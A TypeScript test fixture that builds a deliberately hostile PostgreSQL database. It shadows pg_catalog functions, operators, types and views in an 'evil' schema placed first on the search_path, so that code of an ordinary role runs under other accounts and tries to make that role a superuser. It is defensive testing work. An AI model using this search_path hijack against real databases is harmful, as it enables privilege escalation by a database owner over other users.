import { globSync, readFileSync } from 'node:fs'
import { join } from 'node:path'
import type { TestServer } from './server.ts'

/** What the server's log holds once code of the hostile database has run as somebody else than its author. */
export const hostileMark = 'hostile code ran'

/** Every word in the project's sources: no query can call what is not among them. */
function wordsOfSources(): string[] {
  const root = join(import.meta.dirname, '..', '..')
  const text = globSync('src/**/*.ts', { cwd: root })
    .map((file) => readFileSync(join(root, file), 'utf8'))
    .join('\n')
  return [...new Set(text.match(/[a-z_][a-z0-9_]*/g))]
}

/**
 * A database whose owner "mallory", an ordinary role, has done everything she can to run code as whoever connects: a schema
 * with a function, operator, type and view in the place of each one of pg_catalog that a query might use, and a search_path
 * that puts it first, for the database and for the account; a foreign role, a timeout of a millisecond, and what else can be
 * set. Her code tries to make her a superuser, and leaves a line in the server's log, which works in a read-only session too.
 *
 * @param account whose sessions are to fall for it
 */
export async function makeHostile(
  server: TestServer,
  database: string,
  account = server.superuser,
): Promise<void> {
  const { major } = server
  await server.sql(`
    DO $$ BEGIN
      IF NOT EXISTS (SELECT FROM pg_roles WHERE rolname = 'mallory') THEN CREATE ROLE mallory LOGIN PASSWORD 'm'; END IF;
    END $$`)
  await server.sql(`CREATE DATABASE "${database}" OWNER mallory`)
  const words = `'${JSON.stringify(wordsOfSources())}'::json`
  const kind = major >= 11 ? `p.prokind IN ('f', 'a', 'w')` : 'true'
  await server.sql(
    `
    CREATE SCHEMA evil AUTHORIZATION mallory;
    GRANT USAGE ON SCHEMA evil TO public;
    SET ROLE mallory;
    CREATE TABLE evil.seen (who pg_catalog.text, what pg_catalog.text);
    GRANT ALL ON evil.seen TO public;
    CREATE FUNCTION evil.spy(what pg_catalog.text) RETURNS pg_catalog.bool LANGUAGE plpgsql SET search_path = pg_catalog AS $spy$
    BEGIN
      IF current_user = 'mallory' THEN RETURN true; END IF;
      RAISE LOG '${hostileMark}: % as % in %', what, current_user, current_query();
      BEGIN
        INSERT INTO evil.seen VALUES (current_user, what);
        ALTER ROLE mallory SUPERUSER;
      EXCEPTION WHEN others THEN NULL;
      END;
      RETURN true;
    END $spy$;
    RESET ROLE;`,
    database,
  )
  // one statement each, so that what cannot be made does not cost the rest
  await server.sql(
    `
    DO $make$
    DECLARE
      one record;
      made int := 0;
    BEGIN
      SET LOCAL ROLE mallory;
      FOR one IN
        SELECT p.proname AS name, pg_get_function_identity_arguments(p.oid) AS arguments, pg_get_function_result(p.oid) AS result,
               p.pronargs AS count, p.proretset AS many
          FROM pg_catalog.pg_proc p
         WHERE p.pronamespace = 'pg_catalog'::regnamespace AND ${kind} AND p.provariadic = 0
           AND p.proname IN (SELECT json_array_elements_text(${words}))
      LOOP
        BEGIN
          EXECUTE format('CREATE FUNCTION evil.%I(%s) RETURNS %s LANGUAGE plpgsql AS %L', one.name, one.arguments, one.result,
            format('BEGIN PERFORM evil.spy(%L); %s pg_catalog.%I(%s); END', one.name,
                   CASE WHEN one.many THEN 'RETURN QUERY SELECT * FROM' ELSE 'RETURN' END, one.name,
                   (SELECT string_agg('$' || i, ', ') FROM generate_series(1, one.count) i)));
          made := made + 1;
        EXCEPTION WHEN others THEN NULL;
        END;
      END LOOP;
      FOR one IN
        SELECT o.oprname AS name, o.oid, o.oprleft::regtype::text AS l, o.oprright::regtype::text AS r, o.oprresult::regtype::text AS result
          FROM pg_catalog.pg_operator o WHERE o.oprnamespace = 'pg_catalog'::regnamespace AND o.oprleft <> 0 AND o.oprright <> 0
           AND o.oprname IN ('=', '<>', '<', '>', '<=', '>=', '||', '~', '!~', '~~', '!~~', '~~*', '+', '-', '*', '/', '%', '&', '|')
      LOOP
        BEGIN
          EXECUTE format('CREATE FUNCTION evil.%I(%s, %s) RETURNS %s LANGUAGE plpgsql AS %L', 'op_' || one.oid, one.l, one.r, one.result,
            format('BEGIN PERFORM evil.spy(%L); RETURN $1 OPERATOR(pg_catalog.%s) $2; END', one.name, one.name));
          EXECUTE format('CREATE OPERATOR evil.%s (leftarg = %s, rightarg = %s, procedure = evil.%I)', one.name, one.l, one.r, 'op_' || one.oid);
          made := made + 1;
        EXCEPTION WHEN others THEN NULL;
        END;
      END LOOP;
      FOR one IN
        SELECT t.typname AS name FROM pg_catalog.pg_type t
         WHERE t.typnamespace = 'pg_catalog'::regnamespace AND t.typtype = 'b' AND t.typname !~ '^_'
           AND t.typname IN (SELECT json_array_elements_text(${words}))
      LOOP
        BEGIN
          EXECUTE format('CREATE DOMAIN evil.%I AS pg_catalog.%I CHECK (evil.spy(%L))', one.name, one.name, one.name);
          made := made + 1;
        EXCEPTION WHEN others THEN NULL;
        END;
      END LOOP;
      FOR one IN
        SELECT c.relname AS name FROM pg_catalog.pg_class c
         WHERE c.relnamespace = 'pg_catalog'::regnamespace AND c.relkind IN ('r', 'v')
           AND c.relname IN (SELECT json_array_elements_text(${words}))
      LOOP
        BEGIN
          EXECUTE format('CREATE VIEW evil.%I AS SELECT evil.spy(%L) AS oid', one.name, one.name);
          EXECUTE format('GRANT SELECT ON evil.%I TO public', one.name);
          made := made + 1;
        EXCEPTION WHEN others THEN NULL;
        END;
      END LOOP;
      IF made < 500 THEN RAISE 'only % objects were made', made; END IF;
    END $make$`,
    database,
  )
  await server.sql(
    `
    SET ROLE mallory;
    CREATE TYPE public.mood AS ENUM ('sad', 'ok');
    CREATE FUNCTION evil.mood_text(public.mood) RETURNS pg_catalog.text LANGUAGE plpgsql AS
      $$ BEGIN PERFORM evil.spy('cast'); RETURN 'whatever'; END $$;
    CREATE CAST (public.mood AS pg_catalog.text) WITH FUNCTION evil.mood_text(public.mood) AS IMPLICIT;
    CREATE TABLE public.orders (id pg_catalog.int4 PRIMARY KEY, note pg_catalog.text, how public.mood DEFAULT 'ok');
    INSERT INTO public.orders SELECT i, 'note ' OPERATOR(pg_catalog.||) i FROM pg_catalog.generate_series(1, 300) i;
    CREATE SEQUENCE public.numbers;
    CREATE VIEW public.sums AS SELECT pg_catalog.count(*) AS orders FROM public.orders;
    RESET ROLE`,
    database,
  )
  // a superuser's triggers that call what mallory may replace
  const login =
    major < 17
      ? ''
      : `CREATE FUNCTION evil.login() RETURNS event_trigger LANGUAGE plpgsql AS $$ BEGIN PERFORM evil.spy('login'); END $$;
         ALTER FUNCTION evil.login() OWNER TO mallory;
         CREATE EVENT TRIGGER welcome ON login EXECUTE FUNCTION evil.login();`
  const watch = `
    CREATE FUNCTION evil.watch() RETURNS event_trigger LANGUAGE plpgsql AS $$ BEGIN PERFORM evil.spy('watch'); END $$;
    ALTER FUNCTION evil.watch() OWNER TO mallory;
    CREATE EVENT TRIGGER watch ON ddl_command_end EXECUTE FUNCTION evil.watch();`
  await server.sql(
    `${login}${watch}
    ALTER DATABASE "${database}" SET search_path = evil, pg_catalog;
    ALTER DATABASE "${database}" SET statement_timeout = '1ms';
    ALTER DATABASE "${database}" SET default_transaction_read_only = off;
    ALTER DATABASE "${database}" SET default_transaction_isolation = serializable;
    ALTER DATABASE "${database}" SET standard_conforming_strings = off;
    ALTER DATABASE "${database}" SET bytea_output = escape;
    ALTER DATABASE "${database}" SET quote_all_identifiers = on;
    ALTER DATABASE "${database}" SET datestyle = 'German';
    ALTER DATABASE "${database}" SET row_security = on;
    ALTER ROLE "${account}" IN DATABASE "${database}" SET search_path = evil, pg_catalog;
    ALTER ROLE "${account}" IN DATABASE "${database}" SET role = mallory;`,
    database,
  )
}

/** Runs SQL in a hostile database as its superuser, unharmed by its settings. */
export async function calmly(server: TestServer, database: string, sql: string): Promise<void> {
  const client = await server.connect(database, {
    options: '-c search_path=pg_catalog -c role=none -c statement_timeout=0',
  })
  try {
    await client.query(sql)
  } finally {
    await client.end()
  }
}

/** What hostile code did on a server: the lines of its log, and mallory's attributes if she is no ordinary role any more. */
export async function hostileTraces(server: TestServer): Promise<string[]> {
  const lines = server
    .log()
    .split('\n')
    .filter((line) => line.includes(hostileMark))
  const { rows } = await server.sql(
    `SELECT rolname FROM pg_catalog.pg_roles WHERE rolname = 'mallory'
        AND (rolsuper OR rolcreaterole OR rolcreatedb OR rolreplication OR rolbypassrls)`,
  )
  return [...lines, ...rows.map(() => 'mallory is no ordinary role any more')]
}
